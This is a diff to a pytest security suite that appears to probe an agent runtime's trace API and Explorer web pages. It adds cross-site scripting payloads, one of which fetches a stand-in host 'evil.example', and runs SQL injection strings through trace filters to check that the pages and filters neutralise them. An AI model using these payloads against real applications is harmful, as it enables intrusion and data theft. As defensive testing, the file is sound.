@@ -1,4 +1,4 @@
-"""Attacks 23, 39, 43, 46 and 48: the runtime's own API, changed tools, and identities in header fields."""
+"""Attacks 23, 39, 42, 43, 46 and 48: the runtime's own API, changed tools, and identities in header fields."""
 
 from __future__ import annotations
 
@@ -12,7 +12,7 @@ from typing import Any
 import httpx
 import pytest
 from attempts import TO_ATTACKER, TRANSFER, Attempt, attack, attacks, sha256
-from casa_runtime import Cast, Json, make_cast, token_of
+from casa_runtime import Cast, Json, make_cast, token_of, wait_until
 from casa_stack import NO_RULE, Stack, Stolen, message_send, new_traceparent, refusal_of, steal, tool_call
 
 SUMMARY = "get_account_summary"
@@ -53,6 +53,16 @@ ADMIN: dict[str, tuple[str, str, Json | None]] = {
     "has tools discovered": ("POST", "/apps/{bank}/tools/discover", {}),
     "rotates the signing key": ("POST", "/keys/rotate", {}),
     "reads the trace": ("GET", "/trace/events", None),
+    "lists all sessions": ("GET", "/trace/sessions", None),
+    "reads a session": ("GET", "/trace/sessions/inp_1", None),
+    "searches the traces": ("GET", "/trace/search?q=transfer", None),
+    "follows the traces": ("GET", "/trace/live", None),
+    "exports the traces": ("GET", "/trace/export", None),
+    "reads the figures": ("GET", "/trace/statistics", None),
+    "reads who calls whom": ("GET", "/trace/graph", None),
+    "reads the alerts": ("GET", "/trace/alerts", None),
+    "has the traces forgotten": ("DELETE", "/trace/events?before=2026-01-01T00:00:00Z", None),
+    "makes a reader of itself": ("POST", "/readers", {"name": "mine", "reads_prompts": True}),
 }
 
 
@@ -106,7 +116,51 @@ def test_a_report_lands_in_its_own_tenant_s_trace(stolen: Stolen, other: Cast, a
     attempt.refused("runtime", "the report is in no session of another MAS")
 
 
+# Attack 42: markup in what the Explorer shows.
+
+MARKUP = {
+    "a script": "<script>fetch('//evil.example')</script>",
+    "an attribute's end": "\"><img src=x onerror=alert(1)>",
+    "an attribute's end with a combining mark": "\"\u0301 onmouseover=alert(1) x=\"",
+    "a template": "{{{prompt}}} {{/content}} <b>bold</b>",
+    "a comment's end": "--><svg/onload=alert(1)>",
+    "text that turns round": "\u202e<script>\u202c",
+}
+
+
+@attacks(42, "markup", MARKUP)
+def test_markup_is_shown_as_text(stack: Stack, attempt: Attempt, markup: str) -> None:
+    session = stack.app("client").introspect(stack.app("client").t1(f"wanted {markup}"))["user_input_id"]
+    http, admin = stack.runtime.http, stack.runtime.admin_headers
+    wait_until(lambda: http.get(f"/trace/sessions/{session}", headers=admin).status_code == 200, "the session is told")
+    signed_in = http.post(
+        "/explorer/sign-in", data={"credential": stack.runtime.admin_secret}, headers={"Sec-Fetch-Site": "same-origin"}
+    )
+    cookie = {"Cookie": signed_in.headers["set-cookie"].split(";")[0]}
+    pages = [http.get(f"/explorer/sessions/{session}", headers=cookie), http.get("/explorer/sessions", headers=cookie)]
+    pages.append(http.get("/explorer/search", params={"q": markup}, headers=cookie))
+    for page in pages:
+        assert page.status_code in (200, 400), page.text[:500]
+        assert "default-src 'none'" in page.headers["content-security-policy"]
+        for raw in ("<script>fetch", "<img src=x", "<svg/onload", "<b>bold", "\u202e", "\" onmouseover", "\"\u0301 on"):
+            assert raw not in page.text, raw
+    assert "wanted" in pages[0].text
+    attempt.refused("runtime", "the pages hold it as text only, under a policy that runs no script of theirs")
+
+
 # Attack 43: SQL in every filter.
+
+TRACE_FILTERS = {
+    "/trace/events": ("mas_id", "app_id", "session", "kind", "after", "limit"),
+    "/trace/sessions": (
+        "mas_id", "app_id", "tool", "verdict", "reason", "from", "to", "text", "before", "limit",
+    ),
+    "/trace/alerts": ("mas_id", "kind", "from", "to", "before", "limit"),
+    "/trace/statistics": ("mas_id", "from", "to"),
+    "/trace/graph": ("mas_id", "from", "to"),
+    "/trace/search": ("q",),
+    "/trace/export": ("mas_id", "session", "kind", "after"),
+}
 
 SQL = {
     "an always true condition": "' OR '1'='1",
@@ -128,6 +182,24 @@ def test_sql_in_filters_is_text(stack: Stack, attempt: Attempt, sql: str) -> Non
     assert client.issue(sql).status_code == 200, "a prompt may hold anything"
     assert snapshot(stack) == before
     attempt.refused("runtime", f"{len(answers)} x 400; everything is still there")
+
+
+@attacks(43, "sql", SQL)
+def test_sql_in_filters_of_traces_is_text(stack: Stack, attempt: Attempt, sql: str) -> None:
+    http, headers = stack.runtime.http, stack.runtime.admin_headers
+    before = snapshot(stack), http.get("/trace/sessions", headers=headers).json()
+    found = 0
+    for path, names in TRACE_FILTERS.items():
+        for name in names:
+            answer = http.get(path, params={name: sql}, headers=headers)
+            assert answer.status_code in (200, 400), (path, name, answer.text)
+            if answer.status_code == 200 and path != "/trace/export":
+                lists = [value for key, value in answer.json().items() if isinstance(value, list)]
+                assert not any(lists), (path, name, answer.text)
+            found += 1
+    assert "private_key" not in http.get("/trace/search", params={"q": sql}, headers=headers).text
+    assert (snapshot(stack), http.get("/trace/sessions", headers=headers).json()) == before
+    attempt.refused("runtime", f"{found} filters find nothing by it; everything is still there")
 
 
 # Attack 46: registering what exists again.
